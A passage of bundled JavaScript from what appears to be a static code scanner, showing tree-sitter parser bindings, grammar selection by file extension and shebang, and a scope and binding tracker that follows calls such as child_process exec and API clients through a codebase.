         * If the parser previously failed because of a timeout, cancellation,
         * or callback, then by default, it will resume where it left off on the
         * next call to {@link Parser#parse} or other parsing functions.
         * If you don't want to resume, and instead intend to use this parser to
         * parse some other document, you must call `reset` first.
         */
        reset() {
          C._ts_parser_reset(this[0]);
        }
        /** Get the ranges of text that the parser will include when parsing. */
        getIncludedRanges() {
          C._ts_parser_included_ranges_wasm(this[0]);
          const count = C.getValue(TRANSFER_BUFFER, "i32");
          const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const result = new Array(count);
          if (count > 0) {
            let address = buffer;
            for (let i2 = 0; i2 < count; i2++) {
              result[i2] = unmarshalRange(address);
              address += SIZE_OF_RANGE;
            }
            C._free(buffer);
          }
          return result;
        }
        /**
         * @deprecated since version 0.25.0, prefer passing a progress callback to {@link Parser#parse}
         *
         * Get the duration in microseconds that parsing is allowed to take.
         *
         * This is set via {@link Parser#setTimeoutMicros}.
         */
        getTimeoutMicros() {
          return C._ts_parser_timeout_micros(this[0]);
        }
        /**
         * @deprecated since version 0.25.0, prefer passing a progress callback to {@link Parser#parse}
         *
         * Set the maximum duration in microseconds that parsing should be allowed
         * to take before halting.
         *
         * If parsing takes longer than this, it will halt early, returning `null`.
         * See {@link Parser#parse} for more information.
         */
        setTimeoutMicros(timeout) {
          C._ts_parser_set_timeout_micros(this[0], 0, timeout);
        }
        /** Set the logging callback that a parser should use during parsing. */
        setLogger(callback) {
          if (!callback) {
            this.logCallback = null;
          } else if (typeof callback !== "function") {
            throw new Error("Logger callback must be a function");
          } else {
            this.logCallback = callback;
          }
          return this;
        }
        /** Get the parser's current logger. */
        getLogger() {
          return this.logCallback;
        }
      };
      return {
        CaptureQuantifier,
        LANGUAGE_VERSION,
        Language,
        LookaheadIterator,
        MIN_COMPATIBLE_VERSION,
        Node,
        Parser,
        Query,
        Tree,
        TreeCursor
      };
    }));
  }
});

// core/scan/worker.ts
var import_node_path5 = require("node:path");
var import_node_worker_threads = require("node:worker_threads");

// core/scan/parser.ts
var import_node_fs = require("node:fs");
var import_node_module = require("node:module");
var import_node_path = require("node:path");
var import_tree_sitter_wasm = __toESM(require_tree_sitter());
var GRAMMAR_OF_EXTENSION = {
  py: "python",
  pyi: "python",
  // A path configuration file: `site` runs its lines starting with `import` (python-comments.ts pthImportLines).
  pth: "python",
  js: "javascript",
  mjs: "javascript",
  cjs: "javascript",
  jsx: "javascript",
  ts: "typescript",
  mts: "typescript",
  cts: "typescript",
  tsx: "tsx"
};
function grammarOf(path2) {
  const dot = path2.lastIndexOf(".");
  return dot < 0 ? void 0 : GRAMMAR_OF_EXTENSION[path2.slice(dot + 1).toLowerCase()];
}
var RUNNER_GRAMMAR = { node: "javascript", nodejs: "javascript", bun: "javascript", deno: "typescript", "ts-node": "typescript", tsx: "typescript" };
function runnerGrammar(command) {
  return /^(?:python|pypy)[\d.]*$/.test(command) ? "python" : Object.hasOwn(RUNNER_GRAMMAR, command) ? RUNNER_GRAMMAR[command] : void 0;
}
function scriptGrammar(head) {
  if (!head.startsWith("#!")) return void 0;
  for (const word of head.slice(2).split("\n", 1)[0].split(/\s+/)) {
    const grammar = runnerGrammar(word.slice(word.lastIndexOf("/") + 1));
    if (grammar) return grammar;
  }
  return void 0;
}
var SHEBANG_BYTES = 256;
function extensionless(path2) {
  return !path2.slice(path2.lastIndexOf("/") + 1).includes(".");
}
function languageOf(grammar) {
  return grammar === "python" ? "python" : "javascript";
}
function wasmDir() {
  const bundled = (0, import_node_path.join)(__dirname, "wasm");
  if ((0, import_node_fs.existsSync)((0, import_node_path.join)(bundled, "tree-sitter.wasm"))) return bundled;
  const require2 = (0, import_node_module.createRequire)((0, import_node_path.join)(__dirname, "noop.js"));
  return (0, import_node_path.join)((0, import_node_path.dirname)(require2.resolve("@vscode/tree-sitter-wasm/package.json")), "wasm");
}
var GRAMMARS = ["python", "javascript", "typescript", "tsx"];
var runtime;
var languageLoads = /* @__PURE__ */ new Map();
var languages = {};
async function loadGrammars(wanted = GRAMMARS, from) {
  runtime ??= (async () => {
    const dir2 = from ?? wasmDir();
    await import_tree_sitter_wasm.Parser.init({ locateFile: (file) => (0, import_node_path.join)(dir2, file) });
    return { parser: new import_tree_sitter_wasm.Parser(), dir: dir2 };
  })();
  runtime.catch(() => runtime = void 0);
  const { parser, dir } = await runtime;
  await Promise.all(
    wanted.map((grammar) => {
      let load = languageLoads.get(grammar);
      if (!load) {
        load = import_tree_sitter_wasm.Language.load(new Uint8Array((0, import_node_fs.readFileSync)((0, import_node_path.join)(dir, `tree-sitter-${grammar}.wasm`)))).then((language) => languages[grammar] = language);
        languageLoads.set(grammar, load);
        load.catch(() => languageLoads.delete(grammar));
      }
      return load;
    })
  );
  return { parser, languages };
}

// core/scan/project.ts
var import_node_path3 = require("node:path");

// core/scan/aliases.ts
var import_node_path2 = require("node:path");
function packageName(pattern) {
  return pattern.split("/").slice(0, pattern.startsWith("@") ? 2 : 1).join("/").split("*")[0];
}
function nearestPackage(packages, folder) {
  if (!packages) return [];
  for (let dir = folder === "." ? "" : folder; ; dir = import_node_path2.posix.dirname(dir) === "." ? "" : import_node_path2.posix.dirname(dir)) {
    const own = packages.get(dir);
    if (own) return own;
    if (dir === "" || dir === "/") return [];
  }
}
function aliasCandidates(aliases, specifier, from) {
  const matches = [];
  const own = from === void 0 ? [] : nearestPackage(aliases.packages, import_node_path2.posix.dirname(from));
  const workspace = aliases.workspaces?.get(packageName(specifier)) ?? [];
  for (const [paths, base] of [[own, ""], [workspace, ""], [aliases.paths, aliases.base]]) {
    for (const [pattern, targets] of paths) {
      const star = pattern.indexOf("*");
      if (star < 0) {
        if (pattern === specifier) matches.push([pattern.length, targets, "", base]);
        continue;
      }
      const prefix = pattern.slice(0, star);
      const suffix = pattern.slice(star + 1);
      if (specifier.length >= prefix.length + suffix.length && specifier.startsWith(prefix) && specifier.endsWith(suffix)) matches.push([prefix.length, targets, specifier.slice(prefix.length, specifier.length - suffix.length), base]);
    }
  }
  matches.sort((a, b) => b[0] - a[0]);
  const out2 = matches.flatMap(([, targets, star, base]) => targets.map((t) => import_node_path2.posix.normalize(import_node_path2.posix.join(base, t.replace("*", star)))));
  if (aliases.baseUrl) out2.push(import_node_path2.posix.normalize(import_node_path2.posix.join(aliases.base, specifier)));
  return out2.filter((p) => !p.startsWith("..") && !import_node_path2.posix.isAbsolute(p));
}

// core/scan/resolve.ts
var NOTHING = "<nothing>";
var OBJECT = "<object>";
var FILE_CLASS = "<class>";
var PROJECT_INSTANCE = "<project instance>";
var PROTOTYPE = "prototype";
var ANY_ENTRY = "[]";
function called(path2, call2) {
  if (!path2?.returns) return void 0;
  const { returns, ...value } = path2;
  return through(returns > 1 ? { ...value, returns: returns - 1 } : value, call2);
}
function calledThrough(path2, arg) {
  if (!path2?.returns) return void 0;
  const { returns: _, ...value } = path2;
  return through(value, arg);
}
function through(path2, node, tracked = true) {
  return { ...path2, via: [{ start: node.startIndex, end: node.endIndex, tracked }, ...path2.via ?? []].slice(0, MAX_HOPS) };
}
function shiftPath(path2, from, delta) {
  const properties = path2.properties && Object.fromEntries(Object.entries(path2.properties).map(([key, value]) => [key, shiftPath(value, from, delta)]));
  const moved = properties ? { ...path2, properties } : path2;
  if (!path2.via?.some((hop2) => !hop2.placed && hop2.start >= from)) return moved;
  return { ...moved, via: path2.via.map((hop2) => !hop2.placed && hop2.start >= from ? { ...hop2, start: hop2.start + delta, end: hop2.end + delta } : hop2) };
}
function stepAcross(path2, offset) {
  if (path2.via?.some((hop2) => !hop2.placed && hop2.start < offset && hop2.end > offset)) return true;
  return path2.properties !== void 0 && Object.values(path2.properties).some((value) => stepAcross(value, offset));
}
var MAX_HOPS = 8;
var ScopeIndex = class _ScopeIndex {
  constructor(rootId) {
    this.rootId = rootId;
  }
  rootId;
  nodes = [];
  parents = [];
  /** Each scope's place in `nodes`, by id (seal). */
  places = /* @__PURE__ */ new Map();
  /** `classBody`: a Python class, whose names are seen by code directly in its body but not by its methods. */
  add(node, classBody = false) {
    this.nodes.push({ start: node.startIndex, end: node.endIndex, id: node.id, classBody });
  }
  /** Call once after every add(): orders the ranges and links each to its enclosing range. */
  seal() {
    this.nodes.sort((a, b) => a.start - b.start || b.end - a.end);
    const stack = [];
    this.parents = this.nodes.map((n, i2) => {
      while (stack.length && this.nodes[stack[stack.length - 1]].end <= n.start) stack.pop();
      const parent = stack.length ? stack[stack.length - 1] : -1;
      stack.push(i2);
      return parent;
    });
    this.places = new Map(this.nodes.map((n, i2) => [n.id, i2]));
  }
  /** Scope ids enclosing `offset`, innermost first, ending with the file; `skip` leaves out one scope (a definition's own). */
  *chain(offset, skip) {
    let lo = 0;
    let hi = this.nodes.length - 1;
    let i2 = -1;
    while (lo <= hi) {
      const mid = lo + hi >> 1;
      if (this.nodes[mid].start <= offset) i2 = mid, lo = mid + 1;
      else hi = mid - 1;
    }
    let innermost = true;
    for (; i2 >= 0; i2 = this.parents[i2]) {
      const n = this.nodes[i2];
      if (n.end <= offset || n.id === skip || n.classBody && !innermost) continue;
      innermost = false;
      yield n.id;
    }
    yield this.rootId;
  }
  /**
   * After an edit of whole statements: the scopes of the old text [start, oldEnd) give way to `region`'s
   * (the statements' own scope indexes, under fresh ids no node of any tree has), those after move by
   * `delta`, those around stretch. False when a scope straddles an edge (then nothing changed).
   */
  replace(start3, oldEnd, delta, region) {
    if (this.nodes.some((n) => n.start < start3 && n.end > start3 && n.end < oldEnd || n.start >= start3 && n.start < oldEnd && n.end > oldEnd)) return false;
    const fresh = region.flatMap((r) => r.nodes.map((n) => ({ ...n, id: --_ScopeIndex.regionIds })));
    const kept = this.nodes.filter((n) => n.start < start3 || n.start >= oldEnd);
    for (const n of kept) {
      if (n.start >= oldEnd) n.start += delta;
      if (n.end > start3) n.end += delta;
    }
    this.nodes = [...kept, ...fresh];
    this.seal();
    return true;
  }
  /** Ids of scopes made by replace(): negative, so never a node's. */
  static regionIds = 0;
  scopeAt(offset, skip) {
    return this.chain(offset, skip).next().value;
  }
  /** The text a scope spans, [start, end), else undefined (the file's, or one replace() dropped). */
  span(id) {
    const n = this.nodes[this.places.get(id) ?? -1];
    return n ? [n.start, n.end] : void 0;
  }
};
var OFFERED_SLOT = new RegExp(String.raw`^[\w$]+\.(?:prototype\.)?(?:[\w$]+|${ANY_ENTRY.replace(/[[\]]/g, "\\$&")})$`);
var PROTOTYPE_MEMBER = /^[\w$]+\.prototype\.([\w$]+)/;
var INSTANCE_ROOTS = /* @__PURE__ */ new Set(["this", "self", "cls", "module", "exports"]);
var Bindings = class {
  constructor(scopes, globals = () => void 0, deferred = () => false) {
    this.scopes = scopes;
    this.globals = globals;
    this.deferred = deferred;
  }
  scopes;
  globals;
  deferred;
  table = /* @__PURE__ */ new Map();
  /** Names that have a binding anywhere: the cheap first test for every call. */
  names = /* @__PURE__ */ new Set();
  /** Names bound somewhere other than the file scope, or shadowed somewhere: these need the scope walk. */
  scoped = /* @__PURE__ */ new Set();
  /** The scope a node belongs to; for a definition's name pass the definition, whose own scope is skipped. */
  scopeOf(node, definition) {
    return definition ? this.scopes.scopeAt(definition.startIndex, definition.id) : this.scopes.scopeAt(node.startIndex);
  }
  /** `star`: the offset of the star import that binds the name (shadowStar); `from`: where a binding hiding a global starts to (Binding.from). */
  bind(scope, name2, path2, star, from) {
    const key = `${scope}\0${name2}`;
    const existing = this.table.get(key);
    if (existing?.path) return;
    const hidden = path2 || from === void 0 || existing && existing.from === void 0 ? void 0 : Math.min(from, existing?.from ?? from);
    this.table.set(key, star === void 0 ? hidden === void 0 ? { path: path2 } : { path: path2, from: hidden } : { path: path2, star });
    if (path2) this.fresh?.add(name2, scope);
    this.nearestOf.delete(name2);
    if (scope !== this.scopes.rootId || !path2) this.scoped.add(name2);
    if (path2) this.names.add(name2);
  }
  /**
   * `from subprocess import *` \u2026 `def run(cmd): \u2026`: a plain definition of the name, unconditional and after the star
   * import, ending at `from`, holds it from there on, and in code run later (a function body) wherever written. A
   * name the file imports by name keeps its module (`try: import x` / `except ImportError: x = None` is `x`).
   * `end`: where the definition ends, undefined when it is not unconditional; asked only of a name a star import binds
   * (it asks the tree for parents).
   */
  shadowStar(scope, name2, end) {
    const binding = this.table.get(`${scope}\0${name2}`);
    if (binding?.star === void 0) return;
    const from = end();
    if (from === void 0 || from < binding.star) return;
    binding.shadowedFrom = Math.min(binding.shadowedFrom ?? from, from);
  }
  /** Is `name` bound to a watched value in this very scope (a parameter already given one)? */
  boundIn(scope, name2) {
    return this.table.get(`${scope}\0${name2}`)?.path !== void 0;
  }
  /** Could `name` resolve to anything at all? (No scope walk.) */
  mayResolve(name2) {
    return this.names.has(name2) || this.containers.has(name2) || this.globals(name2) !== void 0;
  }
  /**
   * Attribute and container slots holding a watched value (`self.client = anthropic.Anthropic()`,
   * `values["client"] = openai.ChatCompletion`, `this.client = new OpenAI()`), keyed by their dotted
   * path (`self.client`, `values.client`). Per file, not per object: any `self.client` in the file is
   * the slot (one level of attribute, no aliasing of the object).
   */
  slots = /* @__PURE__ */ new Map();
  reexports = /* @__PURE__ */ new Map();
  /** First names of slot keys: the cheap test before a slot lookup. */
  slotRoots = /* @__PURE__ */ new Set();
  /** Members of classes' prototypes holding a watched value (`K.prototype.run`): the cheap test before `this.run` is read as its class's (javascript.ts). */
  prototypeMembers = /* @__PURE__ */ new Set();
  /** What slots of instances are under (`K`, `a.K` of `K.prototype.run`, `a.K.prototype.run`): the classes whose instances have members. */
  instanceOwners = /* @__PURE__ */ new Set();
  /** Bind a slot to a watched value (the first watched value wins, as for names). */
  bindSlot(key, path2) {
    if (this.slots.has(key)) return;
    this.slots.set(key, path2);
    this.slotRoots.add(key.split(".")[0]);
    const prototype = PROTOTYPE_MEMBER.exec(key);
    if (prototype) this.prototypeMembers.add(prototype[1]);
    const owner = key.indexOf(`.${PROTOTYPE}.`);
    if (owner > 0) this.instanceOwners.add(key.slice(0, owner));
    this.fresh?.add(key.slice(key.lastIndexOf(".") + 1), this.scopes.rootId);
  }
  /**
   * Functions written in place that are factories (factories.ts placedFunction: `{ make: () => cp }`), by where they
   * start: each resolves to its value flagged `returns`, wherever a definition puts it (a slot, an export).
   */
  returning = /* @__PURE__ */ new Map();
  /** `name`: the word naming the function where its definition holds it, which a re-read looks for (Fresh). */
  bindReturning(start3, path2, name2) {
    if (this.returning.has(start3)) return;
    this.returning.set(start3, path2);
    this.fresh?.add(name2, this.scopes.rootId);
  }
  /** The value of the factory written in place that starts at `start` (flagged `returns`), else undefined. */
  returnedBy(start3) {
    return this.returning.size ? this.returning.get(start3) : void 0;
  }
  /** Names (and slots' last names) given a watched value since the last call, collected from now on (parameters.ts: what a next round must look at). */
  fresh;
  startFresh() {
    this.fresh = new Fresh(this.scopes);
    return this.fresh;
  }
  /** The value of the longest slot a chain starts with (`self.client.messages.create` \u2192 `self.client`'s value + messages.create); for an instance, its class's (instanceOf). */
  slotPath(chain) {
    if (!this.slotRoots.has(chain[0])) return void 0;
    const own = this.longestSlot(chain);
    const instance2 = own || chain.length < 2 ? void 0 : this.instances.get(chain[0]);
    const held = instance2 && this.longestSlot([instance2.owner, "prototype", ...chain.slice(1)]);
    const prototype = own || held || chain.length < 2 ? void 0 : this.slots.get(`${chain[0]}.${PROTO}`);
    return own ?? (held && through(held, instance2.site)) ?? (prototype && extend(prototype, ...chain.slice(1)));
  }
  longestSlot(chain) {
    for (let n = chain.length; n >= 2; n--) {
      const path2 = this.slots.get(chain.slice(0, n).join("."));
      if (path2) return extend(path2, ...chain.slice(n));
    }
    return void 0;
  }
  /**
   * Literals of watched values a name holds at the module's top (`const T = { "http:": http }`, `const list = [cp.exec]`):
   * what a subscript of the name picks where no slot answers (picked). Per file, as slots are: a later assignment or
   * mutation of the name changes nothing; the first literal wins.
   */
  containers = /* @__PURE__ */ new Map();
  /**
   * `entries`: the literal's watched values in source order, by key where it is known; `site`: the statement holding it,
   * through which the name reaches each (the first is what any other key picks).
   */
  container(name2, entries, site) {
    if (this.containers.has(name2) || entries.length === 0) return;
    const keyed = /* @__PURE__ */ new Map();
    for (const [key, path2] of entries) if (key !== void 0 && !keyed.has(key)) keyed.set(key, path2);
    this.containers.set(name2, { keyed, values: entries.map(([, path2]) => site ? through(path2, site) : path2) });
    this.fresh?.add(name2, this.scopes.rootId);
  }
  /** Every watched value the literal `name` holds at `node` (a container handed over whole: `setup(opts)`), none where a parameter or local hides it. */
  held(name2, node) {
    const container = this.containers.get(name2);
    return container && this.fileScoped(name2, node) ? container.values : void 0;
  }
  /** The literal `name` holds at `node` as one value (heldLiteral: `{ ...tools }` of `const tools = { x: cp.exec }`), none where a parameter or local hides it. */
  literal(name2, node) {
    const container = this.containers.get(name2);
    return container && this.fileScoped(name2, node) ? heldLiteral([[void 0, container.values[0]], ...container.keyed]) : void 0;
  }
  /**
   * What `name[key]` at `node` holds: under a constant key (`T["https:"]`, `list[1]`) that key's value, none when it
   * names no watched value (no guess); under any other key (`T[protocol]`, `list[i]`) the first watched value (the
   * first watched value wins, as for names), reached through the literal's statement. Nothing where a parameter or
   * local of the name hides the module's.
   */
  picked(name2, node, key) {
    const container = this.containers.get(name2);
    if (!container || !this.fileScoped(name2, node)) return void 0;
    return key === void 0 ? container.values[0] : container.keyed.get(key) ?? (ARRAY_INDEX.test(key) ? container.keyed.get(EVERY_INDEX) : void 0);
  }
  /**
   * Names holding an instance of a class (`const shell = new Shell()`), by class name: `shell.run` is the slot
   * `Shell.prototype.run` (a `this.run` slot of the class). Per file, as slots are; the first class wins.
   */
  instances = /* @__PURE__ */ new Map();
  /** The class a name holds an instance of (instanceOf), else undefined. */
  instanceClass(name2) {
    return this.instances.size ? this.instances.get(name2)?.owner : void 0;
  }
  /** The values of a class's instances' own members (`K.prototype.run`), what an instance of it holds. */
  prototypeValues(owner) {
    if (this.prototypeMembers.size === 0 || !this.slotRoots.has(owner.split(".")[0])) return [];
    const prefix = `${owner}.prototype.`;
    const out2 = [];
    for (const [key, path2] of this.slots) if (key.startsWith(prefix) && !key.includes(".", prefix.length)) out2.push(path2);
    return out2;
  }
  instanceOf(name2, owner, site) {
    if (this.instances.has(name2) || name2 === owner) return;
    this.instances.set(name2, { owner, site: { startIndex: site.startIndex, endIndex: site.endIndex } });
    this.slotRoots.add(name2);
  }
  /**
   * `export default api`, `module.exports = api` (`key` "default", "module.exports"): each slot of `api` (`api.exec`)
   * is also the export's (`default.exec`, `module.exports.exec`), whenever in the file it is assigned (exported()).
   */
  slotAliases = [];
  aliasSlots(key, root, site) {
    this.slotAliases.push({ key, root, site: { startIndex: site.startIndex, endIndex: site.endIndex } });
  }
  /**
   * A Python class's member offered to other files only (`K.prototype.run`, `K.run`): the file itself reaches it through
   * its class (FILE_CLASS), so it is no slot here (the first watched value wins).
   */
  offers = /* @__PURE__ */ new Map();
  offer(key, path2) {
    if (!this.offers.has(key)) this.offers.set(key, path2);
  }
  /** `export { exec } from "child_process"`: a name the file offers without binding it in its own scope. */
  reexport(name2, path2) {
    this.reexports.set(name2, path2);
  }
  /** `export { exec as run }`, `export { quiet as exec }`: the name a local export clause gives another local's value (undefined: nothing watched), whatever a local of that name holds. */
  renamed = /* @__PURE__ */ new Map();
  exportAs(name2, path2) {
    this.renamed.set(name2, path2);
  }
  /** Names bound to watched values in the file scope, module.exports slots and re-exports: what the file offers the project. */
  exported() {
    const out2 = namesRecord();
    for (const [name2, path2] of this.reexports) out2[name2] = path2;
    const prefix = `${this.scopes.rootId}\0`;
    for (const [key, binding] of this.table) if (binding.path && binding.path.module !== FILE_CLASS && binding.path.module !== PROJECT_INSTANCE && !binding.path.properties && binding.shadowedFrom === void 0 && key.startsWith(prefix)) out2[key.slice(prefix.length)] = binding.path;
    for (const [name2, path2] of this.renamed) {
      if (path2) out2[name2] = path2;
      else delete out2[name2];
    }
    const commonJs = [];
    for (const [slot, path2] of this.slotsWithAliases()) {
      if (path2.properties) continue;
      const key = slot.replace(/^(?:module\.)?exports\.default\./, "default.");
      if (key === "module.exports") out2.default = path2;
      else if (/^(?:module\.)?exports\.[\w$]+$/.test(key)) commonJs.push([key.split(".").pop(), path2]);
      else if (OFFERED_SLOT.test(key) && !INSTANCE_ROOTS.has(key.slice(0, key.indexOf(".")))) out2[key] = path2;
    }
    const ownDefault = Object.keys(out2).some((name2) => name2 === "default" || name2.startsWith("default."));
    for (const [name2, path2] of commonJs) {
      out2[name2] = path2;
      if (!ownDefault) out2[`default.${name2}`] = path2;
    }
    for (const [key, path2] of this.offers) out2[key] ??= path2;
    return out2;
  }
  /** The slots, and those they are under another name (aliasSlots), each reached through the aliasing statement. */
  slotsWithAliases() {
    const out2 = [...this.slots];
    for (const { key, root, site } of this.slotAliases) {
      for (const [slot, path2] of this.slots) if (slot.startsWith(`${root}.`)) out2.push([key + slot.slice(root.length), through(path2, site)]);
    }
    return out2;
  }
  /** Could a chain starting with `name` resolve (a binding, a global or a slot)? */
  known(name2) {
    return this.mayResolve(name2) || this.slotRoots.has(name2);
  }
  /** What `name`, referenced at `node`, is bound to. */
  lookup(name2, node) {
    const b = this.scoped.has(name2) ? this.nearest(name2, node.startIndex) : this.table.get(`${this.scopes.rootId}\0${name2}`);
    if (b?.shadowedFrom !== void 0 && (node.startIndex >= b.shadowedFrom || this.deferred(node))) return void 0;
    if (b?.from !== void 0 && node.startIndex < b.from) {
      const top = this.table.get(`${this.scopes.rootId}\0${name2}`);
      return top && top !== b && (top.from === void 0 || node.startIndex >= top.from) ? top.path : this.globals(name2);
    }
    return b ? b.path : this.globals(name2);
  }
  /** Is `name` bound below the file scope or shadowed somewhere (so looking it up needs the scopes)? */
  isScoped(name2) {
    return this.scoped.has(name2);
  }
  /**
   * Move every step recorded at or after `from` by `delta` (text was inserted or removed before it), for a
   * re-analysis after an edit that touched no binding (the scopes move with ScopeIndex.replace).
   */
  shift(from, delta) {
    this.nearestOf.clear();
    if (delta === 0) return;
    for (const binding of this.table.values()) {
      if (binding.path) binding.path = shiftPath(binding.path, from, delta);
      if (binding.star !== void 0 && binding.star >= from) binding.star += delta;
      if (binding.shadowedFrom !== void 0 && binding.shadowedFrom >= from) binding.shadowedFrom += delta;
      if (binding.from !== void 0 && binding.from >= from) binding.from += delta;
    }
    for (const [key, path2] of this.slots) this.slots.set(key, shiftPath(path2, from, delta));
    if (this.returning.size) {
      const moved = [...this.returning].map(([start3, path2]) => [start3 >= from ? start3 + delta : start3, shiftPath(path2, from, delta)]);
      this.returning.clear();
      for (const [start3, path2] of moved) this.returning.set(start3, path2);
    }
    for (const container of this.containers.values()) {
      container.values = container.values.map((path2) => shiftPath(path2, from, delta));
      for (const [key, path2] of container.keyed) container.keyed.set(key, shiftPath(path2, from, delta));
    }
    for (const [name2, path2] of this.reexports) this.reexports.set(name2, shiftPath(path2, from, delta));
    for (const [name2, path2] of this.renamed) if (path2) this.renamed.set(name2, shiftPath(path2, from, delta));
    for (const alias of this.slotAliases) if (alias.site.startIndex >= from) alias.site = { startIndex: alias.site.startIndex + delta, endIndex: alias.site.endIndex + delta };
    for (const instance2 of this.instances.values()) if (instance2.site.startIndex >= from) instance2.site = { startIndex: instance2.site.startIndex + delta, endIndex: instance2.site.endIndex + delta };
  }
  /** Every path bound to a name or slot. */
  *paths() {
    for (const binding of this.table.values()) if (binding.path) yield binding.path;
    yield* this.slots.values();
    yield* this.returning.values();
    for (const container of this.containers.values()) {
      yield* container.values;
      yield* container.keyed.values();
    }
    yield* this.reexports.values();
    for (const path2 of this.renamed.values()) if (path2) yield path2;
  }
  /** Is `name` declared (module or local) in a scope enclosing `node`? (`require` shadowed by a parameter.) */
  declared(name2, node) {
    return this.nearest(name2, node.startIndex) !== null;
  }
  /** Is `name`, referenced at `node`, the file scope's (no parameter or local of a scope around `node` hides it)? */
  fileScoped(name2, node) {
    return !this.scoped.has(name2) || this.nearest(name2, node.startIndex) === (this.table.get(`${this.scopes.rootId}\0${name2}`) ?? null);
  }
  /** The innermost scope around `offset` that declares `name` (where an assignment `name = \u2026` lands), else the file's. */
  declaringScope(name2, offset) {
    for (const scope of this.scopes.chain(offset)) if (this.table.has(`${scope}\0${name2}`)) return scope;
    return this.scopes.rootId;
  }
  /** Per name: the binding seen from each scope already walked (null = none); dropped when the name is bound again. */
  nearestOf = /* @__PURE__ */ new Map();
  /**
   * The binding of `name` in the innermost scope around `offset` that has one. Every scope walked
   * remembers the answer, so the references of deeply nested code do not each walk the same chain
   * (20,000 nested functions calling `fetch`, with a parameter `fetch` somewhere, took 70 s).
   */
  nearest(name2, offset) {
    let known = this.nearestOf.get(name2);
    if (!known) this.nearestOf.set(name2, known = /* @__PURE__ */ new Map());
    const walked = [];
    let found = null;
    for (const scope of this.scopes.chain(offset)) {
      const answer = known.get(scope);
      if (answer !== void 0) {
        found = answer;
        break;
      }
      walked.push(scope);
      const b = this.table.get(`${scope}\0${name2}`);
      if (b) {
        found = b;
        break;
      }
    }
    for (const scope of walked) known.set(scope, found);
    return found;
  }
};
var Fresh = class {
  constructor(scopes) {
    this.scopes = scopes;
  }
  scopes;
  byName = /* @__PURE__ */ new Map();
  /** Every scope something was bound in: the cheap test before reading a text for names. */
  all = /* @__PURE__ */ new Set();
  add(name2, scope) {
    this.all.add(scope);
    const list = this.byName.get(name2);
    if (list) list.push(scope);
    else this.byName.set(name2, [scope]);
  }
  named(name2) {
    return this.byName.has(name2);
  }
  /**
   * The text that can see any of these bindings (a superset of covers()'s offsets: the scopes' spans, merged), else
   * undefined when a binding is the file's (everywhere).
   */
  spans() {
    if (this.all.has(this.scopes.rootId)) return void 0;
    const spans = [...this.all].map((id) => this.scopes.span(id)).filter((span) => span !== void 0).sort((a, b) => a[0] - b[0]);
    const out2 = [];
    for (const [start3, end] of spans) {
      const last = out2[out2.length - 1];
      if (last && start3 <= last[1]) last[1] = Math.max(last[1], end);
      else out2.push([start3, end]);
    }
    return out2;
  }
  /** Can code at `offset` see any of these bindings? */
  covers(offset) {
    if (this.all.size === 0) return false;
    if (this.all.has(this.scopes.rootId)) return true;
    for (const scope of this.scopes.chain(offset)) if (this.all.has(scope)) return true;
    return false;
  }
  /** Can `name` used at `offset` see one of these bindings (a scope around it)? */
  at(name2, offset) {
    return this.atOffset(offset)(name2);
  }
  /** at() for the names used at one offset: the scopes around it are listed once, on the first name bound here. */
  atOffset(offset) {
    let around;
    return (name2) => {
      const list = this.byName.get(name2);
      if (!list) return false;
      if (list.includes(this.scopes.rootId)) return true;
      around ??= [...this.scopes.chain(offset)];
      return list.some((scope) => around.includes(scope));
    };
  }
};
var MAX_RESOLVE_DEPTH = 64;
var PROTO = "__proto__";
var EACH_DESCRIPTOR = "<descriptors>";
var EVERY_INDEX = "<every index>";
var EVERY_KEY = "<every key>";
var ARRAY_INDEX = /^(?:0|[1-9]\d*)$/;
function namesRecord(entries) {
  return Object.assign(/* @__PURE__ */ Object.create(null), entries);
}
function ownEntry(record, name2) {
  return Object.hasOwn(record, name2) ? record[name2] : void 0;
}
function extend(path2, ...members) {
  if (path2.returns) return members.length && !path2.unfollowed ? { module: NOTHING, members: [] } : path2;
  if (path2.properties) {
    if (!members.length) return path2;
    const own = Object.hasOwn(path2.properties, members[0]) ? path2.properties[members[0]] : void 0;
    const described = Object.hasOwn(path2.properties, EACH_DESCRIPTOR) ? { module: OBJECT, members: [], properties: { value: extend(path2.properties[EACH_DESCRIPTOR], members[0]) } } : void 0;
    const indexed = own ? void 0 : Object.hasOwn(path2.properties, EVERY_INDEX) && ARRAY_INDEX.test(members[0]) ? path2.properties[EVERY_INDEX] : Object.hasOwn(path2.properties, EVERY_KEY) ? path2.properties[EVERY_KEY] : void 0;
    const value = own ?? indexed ?? described ?? (Object.hasOwn(path2.properties, PROTO) ? extend(path2.properties[PROTO], members[0]) : void 0);
    return value ? extend({ ...value, via: [...path2.via ?? [], ...value.via ?? []].slice(0, MAX_HOPS) }, ...members.slice(1)) : { module: NOTHING, members: [] };
  }
  return { module: path2.module, members: [...path2.members, ...members], via: path2.via, ...path2.unfollowed ? { unfollowed: path2.unfollowed } : {} };
}
function heldLiteral(entries, site) {
  if (entries.length === 0) return void 0;
  const keyed = /* @__PURE__ */ new Map();
  for (const [key, path2] of entries) if (key !== void 0 && key !== ANY_ENTRY && !keyed.has(key)) keyed.set(key, path2);
  const value = { module: OBJECT, members: [], properties: Object.fromEntries([...keyed, [ANY_ENTRY, entries[0][1]]]) };
  return site ? through(value, site) : value;
}
function heldValues(object) {
  const properties = object.properties;
  if (!properties || !Object.hasOwn(properties, ANY_ENTRY)) return [];
  const keyed = Object.keys(properties).filter((key) => key !== ANY_ENTRY);
  return (keyed.length ? keyed : [ANY_ENTRY]).map((key) => extend(object, key));
}
var IDENT = String.raw`[$\p{L}_][$\p{L}\p{N}_]*`;
var SIMPLE_CHAIN = new RegExp(String.raw`^${IDENT}(?:\s*(?:[!?]\s*)?\.\s*#?${IDENT})*$`, "u");
var ROOT = new RegExp(`^${IDENT}`, "u");
function simpleChain(text) {
  if (!SIMPLE_CHAIN.test(text)) return void 0;
  const chain = text.split(".");
  return chain.length > MAX_RESOLVE_DEPTH ? [] : chain.map((s) => s.replace(/[\s!?]/g, ""));
}
function chainPath(bindings, chain, node) {
  if (chain.length === 0) return void 0;
  const base = bindings.lookup(chain[0], node);
  return base ? extend(base, ...chain.slice(1)) : chain.length > 1 ? bindings.slotPath(chain) : void 0;
}
function rootName(text) {
  return ROOT.exec(text)?.[0];
}
var IDENT_ALL = new RegExp(IDENT, "gu");
function identifiersIn(text) {
  return text.match(IDENT_ALL) ?? [];
}
function someIdentifierIn(source, from, to, test) {
  for (let i2 = from; i2 < to; ) {
    const c = source.charCodeAt(i2);
